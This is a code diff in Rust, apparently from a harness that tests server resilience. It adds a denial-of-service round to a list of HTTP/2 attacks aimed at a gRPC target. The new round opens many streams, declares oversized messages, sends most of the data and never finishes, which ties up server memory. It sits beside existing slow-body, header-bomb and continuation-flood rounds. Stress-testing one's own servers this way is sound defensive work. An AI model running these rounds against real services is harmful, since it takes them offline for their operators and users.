@@ -33,6 +33,7 @@ pub const ATTACKS: &[Attack] = &[
     Attack { name: "half a preface", round: half_a_preface },
     Attack { name: "half headers", round: half_headers },
     Attack { name: "bodies byte by byte", round: slow_bodies },
+    Attack { name: "large messages never finished", round: large_messages },
     Attack { name: "oversized headers", round: oversized_headers },
     Attack { name: "compressed header bomb", round: header_bomb },
     Attack { name: "continuation flood", round: continuation_flood },
@@ -129,6 +130,27 @@ fn slow_bodies(target: &Target) -> Vec<Wire> {
             wire.take();
         }
         thread::sleep(Duration::from_millis(50));
+    }
+    wires
+}
+
+/// All but the end of the largest messages, in as many calls as there may be.
+fn large_messages(target: &Target) -> Vec<Wire> {
+    let mut wires = Vec::new();
+    let part = frame(DATA, 0, 0, &[0; 16_000]);
+    for method in ["Evaluate", "EvaluateBatch", "EvaluateStream"].repeat(target.scale) {
+        let Some(mut wire) = Wire::introduced(target.tcp, &[]) else { break };
+        for id in streams().take(200) {
+            let headers = frame(HEADERS, END_HEADERS, id, &call(method));
+            let mut part = part.clone();
+            part[5..9].copy_from_slice(&id.to_be_bytes());
+            let parts = [frame(DATA, 0, id, &[0, 0, 3, 0xff, 0xff]), part.repeat(16)].concat();
+            // What the windows do not take is not sent.
+            if !wire.send(&[headers, parts].concat()) || !wire.take() {
+                break;
+            }
+        }
+        wires.push(wire);
     }
     wires
 }
